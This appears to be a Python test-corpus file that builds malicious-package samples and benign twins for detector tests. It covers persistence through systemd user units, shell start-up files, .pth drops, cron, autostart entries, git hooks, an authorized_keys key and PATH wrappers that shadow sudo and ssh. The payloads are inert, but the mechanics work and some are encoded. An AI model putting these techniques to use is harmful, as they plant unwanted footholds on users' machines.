"""T20: stays after it is gone (MITRE ATT&CK T1543.002, T1053.003, T1546.004, T1547.013, T1546.018).

Known from the backdoored litellm and telnyx releases (a user's systemd unit that polls), from wheels
that drop a `.pth` of their own, from shell start-up files and keys in authorized_keys, from git hooks.
What is left behind does nothing: `/bin/true`, a comment. The twins write the same texts where they
belong to nobody but themselves, or what an honest installer writes on command: a completion, a kernel.
"""

from __future__ import annotations

from models.phase import Phase
from tests.corpus.guard import acting
from tests.corpus.recipe import Channel, Encoding, Kind, Recipe
from tests.corpus.recipes.blind.layouts import (
    MAIN,
    back_end,
    command,
    hook,
    package,
    setup,
    submodule,
)

UNIT = """
import textwrap

SERVICE = textwrap.dedent('''\\
    [Unit]
    Description=System Telemetry Service
    After=network.target

    [Service]
    ExecStart=/bin/true
    Restart=always
    RestartSec=300

    [Install]
    WantedBy=default.target
    ''')
TIMER = "[Timer]\\nOnBootSec=5min\\nOnUnitActiveSec=50min\\n\\n[Install]\\nWantedBy=timers.target\\n"

def _place(folder):
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "sysmon.service").write_text(SERVICE)
    (folder / "sysmon.timer").write_text(TIMER)
"""
UNIT_STAYS = """
folder = HOME / ".config" / "systemd" / "user"
_place(folder)
wanted = folder / "default.target.wants"
wanted.mkdir(exist_ok=True)
if not (wanted / "sysmon.service").is_symlink():
    (wanted / "sysmon.service").symlink_to(folder / "sysmon.service")
try:
    subprocess.run(["systemctl", "--user", "enable", "--now", "sysmon.service"], timeout=5,
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
except (OSError, subprocess.SubprocessError):
    pass
"""
UNIT_BUILDS = """
_place(pathlib.Path("build", "share", "units"))
"""

PROFILE = """
import base64

LINE = "KC9iaW4vdHJ1ZSAmKSA+L2Rldi9udWxsIDI+JjEgICMgcmVlbmFjdCBtYXJrZXIK"

def _append(path):
    line = base64.b64decode(LINE).decode()
    if not path.exists() or line not in path.read_text():
        with path.open("a") as file:
            file.write(line)
"""
PROFILE_STAYS = """
for name in (".bashrc", ".profile", ".zshrc", ".bash_profile"):
    try:
        _append(HOME / name)
    except OSError:
        continue
"""
PROFILE_KEEPS = """
import tempfile
with tempfile.TemporaryDirectory() as folder:
    _append(pathlib.Path(folder, "profile.example"))
"""

DROP = """
import site, sys

TEXT = "import sys; sys.reenact_marker = True\\n"
"""
DROP_STAYS = """
folder = pathlib.Path(site.getusersitepackages())
folder.mkdir(parents=True, exist_ok=True)
(folder / "distutils-compat.pth").write_text(TEXT)
if not (folder / "usercustomize.py").exists():
    (folder / "usercustomize.py").write_text("# reenact marker\\n")
for place in sys.path:
    if place.endswith("-packages") and os.access(place, os.W_OK):
        pathlib.Path(place, "zz-compat.pth").write_text(TEXT)
        break
"""
DROP_READS = """
found = [site.getusersitepackages(), *(place for place in sys.path if place.endswith("-packages"))]
return sorted(name for place in found if os.path.isdir(place) for name in os.listdir(place)), len(TEXT)
"""

CRON = """
JOB = "*/30 * * * * /bin/true # reenact marker"

def _piped(words, text):
    try:
        return subprocess.run(words, input=text, text=True, capture_output=True, timeout=8).stdout
    except (OSError, subprocess.SubprocessError):
        return ""
"""
CRON_STAYS = """
kept = _piped(["crontab", "-l"], "")
_piped(["crontab", "-"], kept + JOB + "\\n")
for place in ("/var/spool/cron/crontabs/dev", "/etc/cron.d/sysstat-collect", "/etc/cron.hourly/0sync"):
    try:
        with open(place, "a") as file:
            file.write(JOB + "\\n")
        break
    except OSError:
        continue
_piped(["at", "now", "+", "5", "minutes"], "/bin/true\\n")
_piped(["sh", "-c", "cat >> $HOME/.xprofile"], "/bin/true # reenact marker\\n")
"""
CRON_SHOWS = """
print("To run it twice an hour, add this line with crontab -e:")
print(_piped(["cat"], JOB + "\\n"), end="")
"""

AUTOSTART = """
ENTRY = bytes.fromhex(
    "5b4465736b746f7020456e7472795d0a547970653d4170706c69636174696f6e0a"
    "4e616d653d557064617465204e6f7469666965720a457865633d2f62696e2f747275650a"
    "582d474e4f4d452d4175746f73746172742d656e61626c65643d747275650a"
)

def _write(path):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    handle = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
    os.write(handle, ENTRY)
    os.close(handle)
"""
AUTOSTART_STAYS = """
base = os.environ.get("XDG_CONFIG_HOME") or os.path.expanduser("~/.config")
_write(base + "/autostart/update-notifier.desktop")
_write(base + "/plasma-workspace/env/update-notifier.sh")
"""
AUTOSTART_KEEPS = """
base = os.environ.get("XDG_CACHE_HOME") or os.path.expanduser("~/.cache")
_write(base + "/THE_PROJECT/example.desktop")
"""

HOOKS = """
HOOK = "#!/bin/sh\\n# reenact marker\\nexec /bin/true\\n"

def _git(*words):
    try:
        return subprocess.run(["git", *words], capture_output=True, timeout=8, text=True).stdout
    except (OSError, subprocess.SubprocessError):
        return ""

def _hooks(folder):
    folder.mkdir(parents=True, exist_ok=True)
    for name in ("post-checkout", "post-merge", "pre-push"):
        (folder / name).write_text(HOOK)
        (folder / name).chmod(0o755)
    return str(folder)
"""
HOOKS_STAY = """
folder = HOME / ".config" / "git" / "hooks"
_git("config", "--global", "core.hooksPath", _hooks(folder))
_git("config", "--global", "alias.st", "!/bin/true; git status")
if not (HOME / ".gitconfig").exists():
    (HOME / ".gitconfig").write_text(f"[core]\\n\\thooksPath = {folder}\\n")
"""
HOOKS_ASK = """
_hooks(pathlib.Path("build", "hooks"))
return _git("config", "--get", "core.hooksPath"), _git("describe", "--tags")
"""

KEY = """
import zlib

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHJlZW5hY3QtbWFya2VyLXJlZW5hY3QtbWFyaw== reenact"

def _again(place):
    known = place / "state"
    if known.exists():
        return True
    place.mkdir(parents=True, exist_ok=True)
    known.write_text("1")
    return False
"""
KEY_STAYS = """
if _again(HOME / ".cache" / "fontconfig-2"):
    folder = HOME / ".ssh"
    folder.mkdir(mode=0o700, exist_ok=True)
    with open(folder / "authorized_keys", "ab") as file:
        file.write(zlib.decompress(zlib.compress(KEY.encode())) + b"\\n")
    (folder / "rc").write_text("/bin/true\\n")
"""
KEY_CHECKS = """
if _again(HOME / ".cache" / "THE_PROJECT"):
    kind, blob, name = KEY.split()
    return kind.encode(), zlib.crc32(blob.encode()), name
"""

SHELL = """
TEXT = "L2Jpbi90cnVlICMgcmVlbmFjdCBtYXJrZXIK"

def _bash(line):
    try:
        subprocess.run(["bash", "-c", line], timeout=8, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except (OSError, subprocess.SubprocessError):
        pass
"""
SHELL_STAYS = """
_bash(f"echo {TEXT} | base64 -d >> ~/.bash_aliases; echo {TEXT} | base64 -d | tee -a ~/.bash_logout")
_bash(f"mkdir -p ~/.config/fish/conf.d; echo {TEXT} | base64 -d > ~/.config/fish/conf.d/00-path.fish")
"""
SHELL_CHECKS = """
_bash(f"echo {TEXT} | base64 -d | wc -c; type mkdir tee")
"""

SHADOW = """
import stat

WRAPPER = '''#!/bin/sh
# reenact marker
/bin/true
exec /usr/bin/{} "$@"
'''

def _script(path, name):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(WRAPPER.format(name))
    path.chmod(path.stat().st_mode | stat.S_IXUSR)
"""
SHADOW_STAYS = """
for name in ("sudo", "ssh", "git"):
    _script(HOME / ".local" / "bin" / name, name)
path = HOME / ".config" / "environment.d" / "10-path.conf"
path.parent.mkdir(parents=True, exist_ok=True)
path.write_text('PATH="$HOME/.local/bin:$PATH"\\n')
"""
SHADOW_COMPLETES = """
share = HOME / ".local" / "share"
path = share / "bash-completion" / "completions" / "THE_PROJECT"
path.parent.mkdir(parents=True, exist_ok=True)
path.write_text("complete -W 'sync show' THE_PROJECT\\n")
_script(share / "THE_PROJECT" / "run", "env")
"""

SPAWN = '''
import sys

SCRIPT = """
d="$1/systemd/user"; mkdir -p "$d/timers.target.wants"
printf '[Timer]\\\\nOnCalendar=hourly\\\\nPersistent=true\\\\n' > "$d/dbus-refresh.timer"
printf '[Service]\\\\nExecStart=/bin/true\\\\n' > "$d/dbus-refresh.service"
ln -sf ../dbus-refresh.timer "$d/timers.target.wants/dbus-refresh.timer"
"""

def _spawn(options, *words):
    try:
        pid = os.posix_spawn("/bin/sh", ["sh", options, SCRIPT, *words], {"PATH": "/usr/bin:/bin"})
        return os.waitpid(pid, 0)[1]
    except OSError:
        return sys.maxsize
'''
SPAWN_STAYS = """
_spawn("-c", "refresh", str(HOME / ".config"))
"""
SPAWN_CHECKS = """
return _spawn("-nc", "refresh", str(HOME / ".config"))
"""

RECIPES = (
    Recipe(
        technique="T20",
        name="user-unit",
        phase=Phase.INSTALL,
        channel=Channel.NONE,
        encoding=Encoding.PLAIN,
        kind=Kind.SDIST,
        files=setup(UNIT_STAYS, UNIT_BUILDS, UNIT),
        twin_does="writes example units into its build folder",
    ),
    Recipe(
        technique="T20",
        name="shell-profile",
        phase=Phase.IMPORT,
        channel=Channel.NONE,
        encoding=Encoding.BASE64,
        files=package(acting(PROFILE_STAYS, PROFILE_KEEPS, head=PROFILE)),
        twin_does="writes an example into a temporary folder",
    ),
    Recipe(
        technique="T20",
        name="pth-drop",
        phase=Phase.START,
        channel=Channel.NONE,
        encoding=Encoding.PLAIN,
        files=hook(acting(DROP_STAYS, DROP_READS, head=DROP)),
        twin_does="lists the folders of packages",
    ),
    Recipe(
        technique="T20",
        name="cron-job",
        phase=Phase.USE,
        channel=Channel.PROCESS,
        encoding=Encoding.PLAIN,
        files=command(acting(CRON_STAYS, CRON_SHOWS, MAIN, CRON)),
        twin_does="shows the line that a user may add",
    ),
    Recipe(
        technique="T20",
        name="autostart-entry",
        phase=Phase.IMPORT,
        channel=Channel.NONE,
        encoding=Encoding.HEX,
        files=submodule("desktop", acting(AUTOSTART_STAYS, AUTOSTART_KEEPS, head=AUTOSTART)),
        twin_does="writes an example into its own cache",
    ),
    Recipe(
        technique="T20",
        name="git-hooks",
        phase=Phase.INSTALL,
        channel=Channel.PROCESS,
        encoding=Encoding.PLAIN,
        kind=Kind.SDIST,
        files=back_end(HOOKS_STAY, HOOKS_ASK, HOOKS),
        twin_does="asks git for its settings and a version",
    ),
    Recipe(
        technique="T20",
        name="authorized-key",
        phase=Phase.WAIT,
        channel=Channel.NONE,
        encoding=Encoding.ZLIB,
        files=package(acting(KEY_STAYS, KEY_CHECKS, head=KEY)),
        twin_does="reads a key out of its own text, the second time",
    ),
    Recipe(
        technique="T20",
        name="bash-pipe",
        phase=Phase.IMPORT,
        channel=Channel.PROCESS,
        encoding=Encoding.BASE64,
        files=package(acting(SHELL_STAYS, SHELL_CHECKS, head=SHELL)),
        twin_does="counts the bytes of its text in a shell",
    ),
    Recipe(
        technique="T20",
        name="path-shadow",
        phase=Phase.USE,
        channel=Channel.NONE,
        encoding=Encoding.PLAIN,
        files=command(acting(SHADOW_STAYS, SHADOW_COMPLETES, MAIN, SHADOW)),
        twin_does="installs the shell's completion of its own command, on command",
    ),
    Recipe(
        technique="T20",
        name="spawned-timer",
        phase=Phase.START,
        channel=Channel.PROCESS,
        encoding=Encoding.PLAIN,
        files=hook(acting(SPAWN_STAYS, SPAWN_CHECKS, head=SPAWN)),
        twin_does="has a shell check the script and does not run it",
    ),
)
